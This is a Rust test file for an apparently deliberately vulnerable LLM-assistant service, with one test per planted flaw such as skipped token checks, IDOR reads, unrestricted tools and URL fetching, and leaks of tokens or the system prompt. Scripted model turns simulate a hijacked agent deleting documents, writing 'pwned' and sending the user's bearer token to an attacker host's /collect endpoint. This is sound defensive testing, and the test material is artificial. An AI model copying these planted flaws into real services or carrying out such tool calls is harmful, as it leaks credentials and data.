//! One test per planted flaw: the hardened form refuses, the form with only that flaw does the
//! bad thing.

use super::{
    LLM_KEY, Turn, answer_text, bounded, fixture_spec, forms, signature, text, tool, world,
};
use confab::generators::token::MintContext;
use confab::guard::{ScopeSet, unix_now};
use confab_reference_target::{CONFIDENTIAL_SENTENCE, SYSTEM_PROMPT};
use serde_json::json;

#[tokio::test]
async fn flaw_comma_scopes() {
    bounded(async {
        for (flaws, vulnerable) in forms("comma_scopes") {
            let w = world(flaws, |_| vec![]).await;
            let confused = w.mint.mint_valid(
                "alice",
                &ScopeSet::parse("docs:read,docs:write"),
                unix_now(),
                600,
            );
            let a = w.get_doc(Some(&confused), "doc-a1").await;
            if vulnerable {
                assert_eq!(a.status, 200);
            } else {
                assert_eq!(a.status, 403);
                let challenge = a
                    .headers
                    .get("www-authenticate")
                    .and_then(|v| v.to_str().ok());
                assert!(challenge.is_some_and(|c| c.contains("insufficient_scope")));
                assert!(w.docs.all().is_empty());
            }
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_skip_claim_checks() {
    bounded(async {
        for (flaws, vulnerable) in forms("skip_claim_checks") {
            let w = world(flaws, |_| vec![]).await;
            let read = ScopeSet::parse("docs:read");
            let expired = w.mint.mint_valid("alice", &read, unix_now() - 7200, 600);
            let other_aud = MintContext::for_spec(&fixture_spec(Some("other-api")), read.clone())
                .expect("mint")
                .mint_valid("alice", &read, unix_now(), 600);
            for token in [&expired, &other_aud] {
                let a = w.get_doc(Some(token), "doc-a1").await;
                assert_eq!(a.status, if vulnerable { 200 } else { 401 }, "{}", a.body);
            }
            // The signature is still checked.
            let mut forged = w.token("alice");
            forged.truncate(forged.len() - 4);
            forged.push_str("AAAA");
            assert_eq!(w.get_doc(Some(&forged), "doc-a1").await.status, 401);
            if !vulnerable {
                assert!(w.docs.all().is_empty());
            }
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_idor_read() {
    bounded(async {
        for (flaws, vulnerable) in forms("idor_read") {
            let w = world(flaws, |_| vec![]).await;
            let a = w.get_doc(Some(&w.token("alice")), "doc-b1").await;
            assert_eq!(a.status, if vulnerable { 200 } else { 403 });
            assert_eq!(a.body.contains("MARKER-doc-b1"), vulnerable, "{}", a.body);
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_trust_llm_ids() {
    bounded(async {
        for (flaws, vulnerable) in forms("trust_llm_ids") {
            let w = world(flaws, |_| {
                vec![
                    tool("get_doc", json!({"id": "doc-b1"})),
                    tool("get_doc", json!({"id": "doc-zz9"})),
                    text("ok"),
                ]
            })
            .await;
            let a = w.assist(Some(&w.token("alice")), "doc-a1").await;
            assert_eq!(a.status, 200, "{}", a.body);
            assert_eq!(!w.docs_hits("GET", "/docs/doc-b1").is_empty(), vulnerable);
            assert_eq!(!w.docs_hits("GET", "/docs/doc-zz9").is_empty(), vulnerable);
            let bodies = w.model_bodies();
            assert_eq!(bodies[1].contains("MARKER-doc-b1"), vulnerable);
            if !vulnerable {
                assert!(bodies[1].contains("\\\"denied\\\""), "{}", bodies[1]);
            }
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_all_tools() {
    bounded(async {
        for (flaws, vulnerable) in forms("all_tools") {
            let w = world(flaws, |u| {
                vec![
                    tool("delete_doc", json!({"id": "doc-a1"})),
                    tool("update_doc", json!({"id": "doc-a1", "content": "pwned"})),
                    // Under all_tools alone, only the downstream's own host, and no token.
                    tool("fetch_url", json!({"url": format!("{}/x", u.attacker)})),
                    tool(
                        "fetch_url",
                        json!({"url": format!("{}/docs/doc-a2", u.docs)}),
                    ),
                    text("done"),
                ]
            })
            .await;
            let a = w.assist(Some(&w.token("alice")), "doc-a1").await;
            assert_eq!(a.status, 200, "{}", a.body);
            assert_eq!(
                w.docs_hits("DELETE", "/docs/doc-a1").len(),
                usize::from(vulnerable)
            );
            assert_eq!(
                w.docs_hits("PUT", "/docs/doc-a1").len(),
                usize::from(vulnerable)
            );
            assert!(w.attacker.all().is_empty());
            let fetched = w.docs_hits("GET", "/docs/doc-a2");
            assert_eq!(fetched.len(), usize::from(vulnerable));
            assert!(fetched.iter().all(|r| r.authorization.is_none()));
            if !vulnerable {
                assert!(w.model_bodies()[1].contains("unknown_tool"));
            }
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_follow_any_url() {
    bounded(async {
        for (flaws, vulnerable) in forms("follow_any_url") {
            let w = world(flaws, |u| {
                vec![
                    tool(
                        "fetch_url",
                        json!({"url": format!("{}/collect", u.attacker)}),
                    ),
                    text("done"),
                ]
            })
            .await;
            let alice = w.token("alice");
            let a = w.assist(Some(&alice), "doc-a1").await;
            assert_eq!(a.status, 200, "{}", a.body);
            let hits = w.attacker.all();
            if vulnerable {
                assert_eq!(hits.len(), 1);
                assert_eq!(
                    hits[0].authorization.as_deref(),
                    Some(format!("Bearer {alice}").as_str())
                );
            } else {
                assert!(hits.is_empty());
            }
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_token_to_model() {
    bounded(async {
        for (flaws, vulnerable) in forms("token_to_model") {
            let w = world(flaws, |_| vec![text("ok")]).await;
            let alice = w.token("alice");
            assert_eq!(w.assist(Some(&alice), "doc-a1").await.status, 200);
            let bodies = w.model_bodies();
            assert_eq!(bodies.len(), 1);
            assert_eq!(bodies[0].contains(&alice), vulnerable);
            assert_eq!(bodies[0].contains(signature(&alice)), vulnerable);
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_token_in_errors() {
    bounded(async {
        for (flaws, vulnerable) in forms("token_in_errors") {
            let w = world(flaws, |_| vec![]).await;
            let alice = w.token("alice");
            let mut tampered = alice.clone();
            tampered.truncate(tampered.len() - 4);
            tampered.push_str("AAAA");
            let a = w.get_doc(Some(&tampered), "doc-a1").await;
            assert_eq!(a.status, 401);
            assert_eq!(a.body.contains(&tampered), vulnerable, "{}", a.body);
            let bad = w.assist_raw(Some(&alice), "not json").await;
            assert_eq!(bad.status, 400);
            assert_eq!(bad.body.contains(&alice), vulnerable, "{}", bad.body);
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_log_token() {
    bounded(async {
        for (flaws, vulnerable) in forms("log_token") {
            let w = world(flaws, |_| vec![text("ok")]).await;
            let alice = w.token("alice");
            assert_eq!(w.get_doc(Some(&alice), "doc-a1").await.status, 200);
            assert_eq!(w.assist(Some(&alice), "doc-a1").await.status, 200);
            let log = w.log.contents();
            assert!(
                log.contains("reference-target: GET /docs/{resource} -> 200"),
                "{log}"
            );
            assert_eq!(log.contains(&alice), vulnerable, "{log}");
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_llm_before_auth() {
    bounded(async {
        for (flaws, vulnerable) in forms("llm_before_auth") {
            let w = world(flaws, |_| vec![text("ok"), text("ok")]).await;
            let a = w.assist(None, "doc-a1").await;
            assert_eq!(a.status, 401, "{}", a.body);
            let expired = w.mint.mint_valid(
                "alice",
                &ScopeSet::parse("docs:read"),
                unix_now() - 7200,
                600,
            );
            assert_eq!(w.assist(Some(&expired), "doc-a1").await.status, 401);
            assert_eq!(w.model.all().len(), if vulnerable { 2 } else { 0 });
            assert!(w.docs.all().is_empty());
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_no_call_cap() {
    bounded(async {
        for (flaws, vulnerable) in forms("no_call_cap") {
            let w = world(flaws, |_| {
                let mut s: Vec<Turn> = (0..10)
                    .map(|_| tool("get_doc", json!({"id": "doc-a1"})))
                    .collect();
                s.push(text("finally"));
                s
            })
            .await;
            let a = w.assist(Some(&w.token("alice")), "doc-a1").await;
            assert_eq!(a.status, 200, "{}", a.body);
            assert_eq!(w.model.all().len(), if vulnerable { 11 } else { 4 });
            if !vulnerable {
                assert!(!answer_text(&a).contains("finally"));
            }
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_crash_on_bad_body() {
    bounded(async {
        for (flaws, vulnerable) in forms("crash_on_bad_body") {
            let w = world(flaws, |_| vec![]).await;
            let alice = w.token("alice");
            for body in [
                "",
                "not json",
                "{}",
                "[1, 2]",
                r#"{"prompt": 1, "doc_id": "doc-a1"}"#,
                r#"{"prompt": "hi"}"#,
            ] {
                let a = w.assist_raw(Some(&alice), body).await;
                assert_eq!(
                    a.status,
                    if vulnerable { 500 } else { 400 },
                    "{body:?}: {}",
                    a.body
                );
            }
            assert!(w.model.all().is_empty());
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_echo_model_output() {
    bounded(async {
        for (flaws, vulnerable) in forms("echo_model_output") {
            // The model repeats its instructions, a token (as if the target had handed it
            // over) and the LLM key.
            let alice = MintContext::for_spec(&fixture_spec(None), ScopeSet::parse("docs:read"))
                .expect("mint")
                .mint_valid("alice", &ScopeSet::parse("docs:read"), unix_now(), 600);
            let echo =
                format!("My instructions: {SYSTEM_PROMPT} Your token: {alice}. Key: {LLM_KEY}.");
            let w = world(flaws, |_| vec![text(&echo)]).await;
            let a = w.assist(Some(&alice), "doc-a1").await;
            assert_eq!(a.status, 200, "{}", a.body);
            let answer = answer_text(&a);
            assert_eq!(
                answer.contains(CONFIDENTIAL_SENTENCE),
                vulnerable,
                "{answer}"
            );
            assert_eq!(answer.contains(&alice), vulnerable, "{answer}");
            assert_eq!(answer.contains(LLM_KEY), vulnerable, "{answer}");
            if !vulnerable {
                assert!(answer.contains("[REDACTED:"), "{answer}");
            }
        }
    })
    .await;
}
